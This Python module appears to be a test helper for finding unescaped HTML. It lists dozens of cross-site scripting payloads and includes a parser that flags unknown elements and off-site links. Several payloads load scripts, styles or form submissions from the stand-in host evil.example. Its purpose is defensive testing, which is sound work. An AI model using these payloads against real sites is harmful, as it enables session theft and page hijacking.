"""Words that would be markup where somebody forgot to escape them, and how a page shows that."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import NamedTuple

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onclick=alert(1) `",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=//evil.example><button>x</button></form>",
    "<style>*{background:url(//evil.example/x.png)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<div hx-get=//evil.example hx-trigger=load>x</div>",
    "<div hx-on:click=alert(1)>x</div>",
    "{{ ''.__class__ }}{% raw %}",
    "</title><script>alert(1)</script>",
    "</textarea></option></select><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\u0130<img src=x onerror=alert(1)>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
)
# One for each place where words can stand, for what there is not time to try with all.
KINDS = (
    "<img src=x onerror=alert(1)>",
    "'\"><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "javascript:alert(1)",
    "</title></textarea></option></select><script>alert(1)</script>",
)
PLAIN = "nothing but words"

Shape = tuple[str, tuple[str, ...]]
"""An element with the names of its attributes."""


class Form(NamedTuple):
    """A form with what it would send."""

    method: str
    action: str
    fields: dict[str, str]
    buttons: tuple[tuple[str, str], ...]
    """Name and value of those that have one."""


class Page(HTMLParser):
    """What a browser would make of a page."""

    def __init__(self, html: str, address: str = "") -> None:
        super().__init__()
        self.shapes: list[Shape] = []
        self.targets: list[str] = []
        """Where elements lead, or load from."""
        self.polled: list[str] = []
        self.forms: list[Form] = []
        self.text = ""
        """All of it, also what stands in attributes."""
        self._address = address
        self._texts: list[str] = []
        self._more: list[tuple[str, Form]] = []
        self.feed(html)
        self.text = "".join(self._texts)
        self.forms += [form._replace(action=action) for action, form in self._more]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shapes.append((tag, tuple(name for name, _ in attrs)))
        values = {name: value or "" for name, value in attrs}
        leads = {"href", "src", "action", "formaction", "hx-get", "hx-post", "data-result"}
        self.targets += [value for name, value in values.items() if name in leads]
        self._texts += [f" {value} " for value in values.values()]
        if "hx-get" in values:
            self.polled.append(values["hx-get"])
        self._read_form(tag, values)

    def handle_data(self, data: str) -> None:
        self._texts.append(data)

    def _read_form(self, tag: str, values: dict[str, str]) -> None:
        name, value = values.get("name", ""), values.get("value", "")
        if tag == "form":
            action = values.get("action") or self._address
            self.forms.append(Form(values.get("method", "get"), action, {}, ()))
        elif self.forms and tag == "button" and name:
            form = self.forms[-1]
            self.forms[-1] = form._replace(buttons=(*form.buttons, (name, value)))
        if self.forms and (more := values.get("formaction") or values.get("hx-post")):
            self._more.append((more, self.forms[-1]))
        if self.forms and tag in {"input", "select", "textarea"} and name:
            self.forms[-1].fields.setdefault(name, value)

    def strange(self, known: set[Shape]) -> list[Shape | str]:
        """Return what is not of the page itself: elements that are not ``known``, and addresses
        that lead elsewhere."""
        leads_away = [
            one for one in self.targets if not one.startswith(("/", "#")) or one.startswith("//")
        ]
        return [*(set(self.shapes) - known), *leads_away]
